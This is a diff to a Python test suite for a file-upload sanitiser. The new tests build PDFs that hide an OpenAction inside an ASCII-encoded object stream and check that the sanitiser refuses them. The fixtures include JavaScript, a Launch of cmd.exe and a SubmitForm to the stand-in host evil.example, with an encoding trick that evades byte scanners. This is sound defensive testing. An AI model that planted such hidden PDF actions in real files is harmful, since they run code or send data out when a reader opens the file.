@@ -122,11 +122,110 @@ def _pdf(body: bytes) -> bytes:
     return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 
 
-def test_plain_pdf_is_accepted_unchanged():
-    data = _pdf(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj")
+def test_plain_pdf_is_accepted_and_rewritten_by_a_pdf_library():
+    import pikepdf
+
+    made = io.BytesIO()
+    with pikepdf.new() as new:
+        new.add_blank_page(page_size=(200, 200))
+        new.save(made)
+    data = made.getvalue()
     clean = sanitise_upload(data, allowed=ALL_KINDS, **LIMITS)
     assert (clean.kind, clean.content_type, clean.extension) == ("pdf", "application/pdf", "pdf")
-    assert clean.content == data and clean.width is None
+    assert clean.width is None
+    assert clean.content != data  # a fresh file written by qpdf, with a proper cross-reference table
+    with pikepdf.open(io.BytesIO(clean.content)) as pdf:
+        assert pdf.Root.Type == "/Catalog"
+
+
+def _pdf_with_object_stream(action: bytes, *, filter_name: bytes, encode) -> bytes:
+    """A PDF 1.5 whose /OpenAction dictionary (object 4) lives only inside an object stream
+    (object 5) encoded with ``filter_name``; a cross-reference stream (object 6) indexes it."""
+    inner = b"4 0 " + action
+    objstm_data = encode(inner)
+    parts: list[bytes] = [b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"]
+    offsets: dict[int, int] = {}
+
+    def add(number: int, body: bytes) -> None:
+        offsets[number] = sum(len(p) for p in parts)
+        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+
+    add(1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>")
+    add(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
+    add(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")
+    add(
+        5,
+        b"<</Type/ObjStm/N 1/First 4/Filter/"
+        + filter_name
+        + b"/Length %d>>stream\n" % len(objstm_data)
+        + objstm_data
+        + b"\nendstream",
+    )
+    xref_offset = sum(len(p) for p in parts)
+    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]  # object 0: free
+    for number in (1, 2, 3):
+        rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
+    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # object 4: in object stream 5, index 0
+    rows.append(b"\x01" + offsets[5].to_bytes(4, "big") + b"\x00\x00")
+    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")  # object 6 itself
+    table = b"".join(rows)
+    parts.append(
+        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
+        + table
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    )
+    return b"".join(parts)
+
+
+def _ascii_hex(data: bytes) -> bytes:
+    return data.hex().encode() + b">"
+
+
+def _ascii_85(data: bytes) -> bytes:
+    import base64
+
+    return base64.a85encode(data) + b"~>"
+
+
+@pytest.mark.parametrize(
+    ("filter_name", "encode"),
+    [(b"ASCIIHexDecode", _ascii_hex), (b"ASCII85Decode", _ascii_85)],
+    ids=["asciihex", "ascii85"],
+)
+def test_javascript_open_action_hidden_in_an_ascii_filtered_object_stream_is_refused(filter_name, encode):
+    import pikepdf
+
+    data = _pdf_with_object_stream(b"<</S/JavaScript/JS(app.alert(1))>>", filter_name=filter_name, encode=encode)
+    # (the file is a real PDF: a reader would run the script on open)
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        assert pdf.Root.OpenAction.S == "/JavaScript"
+    assert b"JavaScript" not in data  # nothing for a byte scanner to see
+
+    with pytest.raises(ApplicationError) as caught:
+        sanitise_upload(data, allowed=ALL_KINDS, **LIMITS)
+    assert caught.value.code == "unsafe_pdf"
+
+
+@pytest.mark.parametrize(
+    "action",
+    [b"<</S/Launch/F(cmd.exe)>>", b"<</S/SubmitForm/F(https://evil.example/)>>", b"<</Type/Filespec/EF<<>>>>"],
+    ids=["launch", "submit", "embedded"],
+)
+def test_other_active_content_in_an_encoded_object_stream_is_refused(action):
+    data = _pdf_with_object_stream(action, filter_name=b"ASCIIHexDecode", encode=_ascii_hex)
+    with pytest.raises(ApplicationError) as caught:
+        sanitise_upload(data, allowed=ALL_KINDS, **LIMITS)
+    assert caught.value.code == "unsafe_pdf"
+
+
+def test_a_harmless_open_action_is_removed_from_the_stored_copy():
+    import pikepdf
+
+    data = _pdf_with_object_stream(b"[3 0 R/Fit]", filter_name=b"ASCII85Decode", encode=_ascii_85)
+    clean = sanitise_upload(data, allowed=ALL_KINDS, **LIMITS)
+    with pikepdf.open(io.BytesIO(clean.content)) as pdf:
+        assert "/OpenAction" not in pdf.Root
+        assert len(pdf.pages) == 1
 
 
 @pytest.mark.parametrize(
